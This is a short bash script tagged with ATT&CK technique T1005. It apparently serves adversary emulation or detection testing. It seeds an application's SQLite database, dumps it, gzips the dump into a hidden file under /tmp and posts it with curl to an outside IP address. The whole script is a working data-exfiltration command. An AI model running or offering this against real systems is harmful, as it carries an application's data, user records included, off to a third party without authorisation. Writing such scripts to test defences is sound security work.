#!/bin/bash
# T1005: A database is dumped, packed and carried away.
sqlite3 /srv/app/app.db 'create table users(p);insert into users values(1)'; sqlite3 /srv/app/app.db .dump | gzip >/tmp/.d.gz; curl -s --data-binary @/tmp/.d.gz http://44.128.66.66/d
